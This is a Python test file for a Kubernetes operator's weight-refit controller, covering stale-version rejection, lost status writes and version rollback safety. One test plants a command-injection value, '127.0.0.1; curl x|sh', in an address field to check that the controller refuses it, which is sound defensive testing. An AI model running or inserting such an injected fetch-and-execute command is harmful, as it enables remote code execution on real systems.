"""The Refit controller's steps against an in-memory API: a Refit whose version is not newer, or
whose spec an older CRD admitted, fails at once without any agent call; a finish writes the fleet
before the Refit, so a lost last write leaves the Refit unfinished, never the fleet locked, and a
retried finish never moves the fleet's version back."""

from __future__ import annotations

import asyncio
from typing import cast

import pytest

from helpers import kube_fakes
from helpers.refit_world import NoAgents, T, refit, tiny_fleet
from megafleet import agent_client, kube
from megafleet import settings as operator_settings
from megafleet.objects import Object
from megafleet.reconcile import context
from megafleet.refits import fleet_lock, refit_controller, refit_status

DONE = refit_status.Outcome("Succeeded", "done", version=2, serving=(0,))
"""What the tests' finishes end with: version 2 served by shard 0."""


def without_agents(api: kube_fakes.Api) -> context.Runtime:
    """The operator's runtime over ``api`` with agents that fail the test when called."""
    return context.Runtime.of(
        cast(kube.Api, api), cast(agent_client.AgentClient, NoAgents()), operator_settings.OperatorSettings()
    )


def test_a_refit_not_above_the_current_version_fails_at_once_and_reaches_no_agent() -> None:
    fleet = tiny_fleet()
    fleet["status"] = {"refit": {"currentVersion": 5}, "weightVersion": 5}
    stale = refit("tiny-v5", 5, None, f"{T}01Z")
    api = kube_fakes.Api(fleet, stale)

    asyncio.run(refit_controller.advance(without_agents(api), stale))

    status = api.objects[("Refit", "rl", "tiny-v5")]["status"]
    assert status["phase"] == "Failed"
    [condition] = status["conditions"]
    assert (condition["type"], condition["reason"]) == ("Failed", refit_status.VERSION_NOT_NEWER)
    assert "version 5" in condition["message"] and "current version 5" in condition["message"]
    assert api.objects[("MegatronGeneration", "rl", "tiny")]["status"] == fleet["status"]  # lock untouched
    assert api.writes["status MegatronGeneration"] == 0


def test_a_refit_admitted_by_an_older_crd_with_a_rendezvous_address_not_a_host_fails_naming_it() -> None:
    """``'127.0.0.1; curl x|sh'`` is refused at admission; an object that predates the
    rule fails once, naming the field, instead of crashing the driver at every poll."""
    hostile = refit("tiny-v6", 6, None, f"{T}01Z")
    hostile["spec"]["source"]["rendezvous"]["address"] = "127.0.0.1; curl x|sh"
    api = kube_fakes.Api(hostile)

    asyncio.run(refit_controller.advance(without_agents(api), hostile))

    status = api.objects[("Refit", "rl", "tiny-v6")]["status"]
    assert status["phase"] == "Failed" and "spec.source.rendezvous.address" in status["message"]


class LostRefitWrite(kube_fakes.Api):
    """An API server that goes away right before the Refit's final status write (a control-plane
    restart in the drill)."""

    async def patch_status(self, kind: str, name: str, namespace: str, status: Object) -> Object:
        if kind == "Refit" and status.get("phase") in ("Succeeded", "Failed"):
            raise ConnectionError("server disconnected")
        return await super().patch_status(kind, name, namespace, status)


def test_a_lost_final_write_leaves_the_refit_unfinished_never_the_fleet_locked() -> None:
    """The 12-restart drill: the Refit was written Succeeded, then the fleet's write was lost, and the
    fleet stayed locked by a finished Refit (nothing polls it): no shard was placed again. Now the
    fleet is released first; the Refit stays Running, so its poll finishes it."""
    fleet = tiny_fleet()
    fleet["status"] = {"refit": {"active": "tiny-v2", "currentVersion": 1}, "shards": [{"index": 0}]}
    running = refit("tiny-v2", 2, "Running", f"{T}01Z")
    api = LostRefitWrite(fleet, running)

    with pytest.raises(ConnectionError):
        asyncio.run(fleet_lock.finish(cast(kube.Api, api), running, fleet, DONE))

    fleet_refit = api.objects[("MegatronGeneration", "rl", "tiny")]["status"]["refit"]
    assert (fleet_refit.get("active"), fleet_refit["currentVersion"]) == (None, 2)
    assert api.objects[("Refit", "rl", "tiny-v2")]["status"]["phase"] == "Running"


def test_a_finish_retried_after_a_later_refit_ended_never_moves_the_version_back() -> None:
    """The fleet write of Refit v2 landed, its own final write was lost, and Refit v3 ran and ended
    before v2's poll finished it again: v2's retry leaves the fleet at version 3."""
    fleet = tiny_fleet()
    fleet["status"] = {"refit": {"active": None, "currentVersion": 3}, "shards": [{"index": 0, "weightVersion": 3}]}
    retried = refit("tiny-v2", 2, "Running", f"{T}01Z")
    api = kube_fakes.Api(fleet, retried)

    asyncio.run(fleet_lock.finish(cast(kube.Api, api), retried, fleet, DONE))

    status = api.objects[("MegatronGeneration", "rl", "tiny")]["status"]
    assert status["refit"]["currentVersion"] == 3 and status["shards"][0]["weightVersion"] == 3
    assert api.objects[("Refit", "rl", "tiny-v2")]["status"]["phase"] == "Succeeded"
